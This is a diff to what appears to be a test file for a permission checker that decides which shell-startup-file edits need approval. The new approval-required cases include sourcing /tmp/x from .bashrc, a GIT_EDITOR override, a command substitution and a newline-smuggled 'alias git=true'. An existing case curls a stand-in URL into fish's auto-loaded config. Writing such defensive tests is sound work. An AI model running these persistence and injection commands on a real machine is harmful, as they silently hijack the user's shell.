@@ -22,6 +22,10 @@ ASKED = (
     """echo 'export PATH="/tmp/x:$PATH"' >> ~/.bashrc""",
     """echo 'eval "$(tool init bash)"' >> ~/.bashrc""",
     "echo 'PROMPT_COMMAND=x' >> ~/.bashrc",
+    "echo 'A=1 . /tmp/x' >> ~/.bashrc",
+    "echo 'export A=1 GIT_EDITOR=x' >> ~/.bashrc",
+    """echo 'A="$(x)"' >> ~/.bashrc""",
+    """printf 'A="\\nalias git=true\\nB="\\n' >> ~/.bashrc""",
     'cp x ~/.config/fish/config.fish',
     'curl -o ~/.config/fish/conf.d/x.fish https://example.invalid/x',
     "sed -i 's/a/b/' ~/.zshrc",
@@ -32,6 +36,7 @@ ASKED = (
 ALLOWED = (
     """echo 'export PATH="$HOME/.cargo/bin:$PATH"' >> ~/.bashrc""",
     "echo 'export JAVA_HOME=/usr/lib/jvm/17' >> ~/.zshrc",
+    """echo 'A="two words"  # and why' >> ~/.zshrc""",
     "printf '\\n# for the build\\nNODE_ENV=test\\n' >> ~/.profile",
     'cat ~/.bashrc',
     'grep PATH ~/.bashrc ~/.profile',
